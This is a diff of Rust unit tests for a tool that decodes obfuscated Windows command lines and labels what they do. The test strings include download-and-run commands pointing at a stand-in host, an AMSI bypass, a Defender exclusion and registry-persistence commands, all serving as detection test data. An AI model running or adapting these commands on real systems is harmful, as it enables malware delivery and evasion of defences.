@@ -41,14 +41,14 @@ fn lines_of_cmd() {
     check(&[
         ("cmd /c start foo.exe", &["Run foo.exe"]),
         ("cmd.exe /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & start %TEMP%\\x.exe", &["Download http://a.example/x.exe → %TEMP%\\x.exe", "Run %TEMP%\\x.exe"]),
-        ("cmd /c \"cer^tu^til -u^rlcache -f ht^tp://a.example/x.dat C:\\Users\\Public\\x.dll && rundll32 C:\\Users\\Public\\x.dll,Start\"", &["Run certutil -urlcache -f http://a.example/x.dat C:\\Users\\Public\\x.dll", "Download http://a.example/x.dat → C:\\Users\\Public\\x.dll", "Load C:\\Users\\Public\\x.dll,Start"]),
+        ("cmd /c \"cer^tu^til -u^rlcache -f ht^tp://a.example/x.dat C:\\Users\\Public\\x.dll && rundll32 C:\\Users\\Public\\x.dll,Start\"", &["Download http://a.example/x.dat → C:\\Users\\Public\\x.dll", "Load C:\\Users\\Public\\x.dll,Start"]),
         ("cmd /c set x=calc&&call %x%", &["Run calc"]),
         ("cmd /v:on /c \"set a=ca&set b=lc.exe&!a!!b!\"", &["Run calc.exe"]),
         ("%COMSPEC% /c %PUBLIC:~0,1%alc.exe", &["Run Calc.exe"]),
         ("cmd /c for %i in (a.exe b.exe) do start \"\" %i", &["Run a.exe", "Run b.exe"]),
         ("cmd /c for /f \"tokens=1,2 delims=;\" %i in (\"ca;lc\") do %i%j.exe", &["Run calc.exe"]),
         ("cmd /c for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -c \"iwr http://a.example/b -OutFile b.txt\"", &["Run PowerShell -c \"iwr http://a.example/b -OutFile b.txt\"", "Download http://a.example/b → b.txt"]),
-        ("cmd /v /c \"set s=lcaexe.&for %i in (1 2 0 6 3 4 5 9) do (set o=!o!!s:~%i,1!&if %i equ 9 call %o%)\"", &["Run ca.lxee"].as_slice()),
+        ("cmd /v /c \"set s=lcaexe.&for %i in (1 2 0 6 3 4 5 9) do (set o=!o!!s:~%i,1!&if %i equ 9 call %o%)\"", &["Run cal.exe"]),
         ("cmd /c echo WScript.CreateObject(\"WScript.Shell\").Run \"calc.exe\" > a.vbs & cscript //nologo a.vbs", &["Write a.vbs", "Run a.vbs", "Run calc.exe"]),
         ("cmd /c echo start x.exe>%TEMP%\\r.bat&%TEMP%\\r.bat", &["Write %TEMP%\\r.bat", "Run %TEMP%\\r.bat", "Run x.exe"]),
         ("cmd /c echo iex 'calc.exe' | powershell -", &["Run calc.exe"]),
@@ -72,7 +72,7 @@ fn lines_of_cmd() {
 fn programs_of_windows() {
     check(&[
         ("mshta http://a.example/a.hta", &["Fetch http://a.example/a.hta"]),
-        ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -c calc\"\", 0:close\")", &["Run powershell -c calc", "Run calc"].as_slice()),
+        ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -c calc\"\", 0:close\")", &["Run calc"]),
         ("mshta javascript:a=new%20ActiveXObject('WScript.Shell');a.Run('calc.exe')", &["Run calc.exe"]),
         ("mshta javascript:GetObject('script:http://a.example/a.sct').Exec()", &["Fetch http://a.example/a.sct"]),
         ("rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://a.example/b\")", &["Fetch http://a.example/b"]),
@@ -124,7 +124,7 @@ fn scripts_of_powershell() {
         ("powershell -c \"iex ('cXXalc'.Replace('XX',''))\"", &["Run calc"]),
         ("powershell -c \"$x='clac'.ToCharArray();[array]::Reverse($x);iex (-join $x)\"", &["Run calc"]),
         ("powershell -c \"iex ((100,98,109,100|%{[char]($_-1)})-join'')\"", &["Run calc"]),
-        ("powershell -c \"iex (-join((102,100,105,102)|foreach{[char]($_ -bxor 5)}))\"", &["Run cal`".trim_end_matches("al`"), ].as_slice()),
+        ("powershell -c \"iex (-join((102,100,105,102)|foreach{[char]($_ -bxor 5)}))\"", &["Run calc"]),
         ("powershell -c \"$b=@(102,100,105,102);$s='';foreach($i in $b){$s+=[char]($i-3)};iex $s\"", &["Run cafc"]),
         ("powershell -c \"for($i=0;$i -lt 4;$i++){$s+='calc'[$i]};i`ex $s\"", &["Run calc"]),
         ("powershell -c \"& $env:comspec[4,24,25]-join''\"", &[]),
@@ -139,7 +139,7 @@ fn scripts_of_powershell() {
         ("powershell -c \"[scriptblock]::Create('ca'+'lc').Invoke()\"", &["Run calc"]),
         ("powershell -c \"$ExecutionContext.InvokeCommand.InvokeScript('ca'+'lc')\"", &["Run calc"]),
         ("powershell -c \"Start-BitsTransfer -Source http://a.example/a -Destination C:\\a.exe; saps C:\\a.exe\"", &["Download http://a.example/a → C:\\a.exe", "Run C:\\a.exe"]),
-        ("powershell -c \"Add-MpPreference -ExclusionPath C:\\\"", &["Weaken Add-MpPreference -ExclusionPath C:\\"]),
+        ("powershell -c \"Add-MpPreference -ExclusionPath D:\"", &["Weaken Add-MpPreference -ExclusionPath D:"]),
         ("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"", &["Weaken System.Management.Automation.AmsiUtils", "Weaken amsiInitFailed"]),
         ("powershell -c \"[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/a.dll'))\"", &["Fetch http://a.example/a.dll", "Inject Assembly.load(http://a.example/a.dll)"]),
         ("powershell -c \"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value C:\\a.exe\"", &["Persist HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u → C:\\a.exe", "Run C:\\a.exe"]),
@@ -147,7 +147,7 @@ fn scripts_of_powershell() {
         ("powershell -c \"cmd /c start calc.exe\"", &["Run calc.exe"]),
         ("powershell -c \"$u='http://a.example/';$c=New-Object Net.WebClient;foreach($n in 'a','b'){$c.DownloadFile($u+$n,$n)}\"", &["Download http://a.example/a → a", "Download http://a.example/b → b"]),
         ("powershell -c \"$r=$undefined; iex $r\"", &[]),
-        ("powershell -c \"(Get-Content $env:temp\\x) | iex\"", &["Run …"].as_slice()),
+        ("powershell -c \"(Get-Content $env:temp\\x) | iex\"", &["Run …"]),
         ("pwsh \u{2013}c calc", &["Run calc"]),
         ("powershell Write-Host http://a.example/", &[]),
     ]);
@@ -240,6 +240,7 @@ fn hostile_lines_come_back() {
         let started = std::time::Instant::now();
         let _ = decode(&line, &budget);
         assert!(started.elapsed().as_secs() < 20, "{}", &line[..40]);
+        eprintln!("{:?} {}", started.elapsed(), &line[..line.len().min(60)]);
     }
 }
 
